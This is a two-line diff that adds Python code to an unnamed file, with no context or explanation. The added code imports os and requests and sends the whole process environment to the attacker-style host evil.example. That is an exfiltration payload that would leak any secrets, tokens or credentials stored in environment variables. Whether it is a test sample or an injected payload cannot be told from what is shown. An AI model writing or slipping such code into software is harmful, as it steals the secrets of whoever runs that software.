@@ -1,0 +1,2 @@
+import os, requests
+requests.post("https://evil.example", json=dict(os.environ))
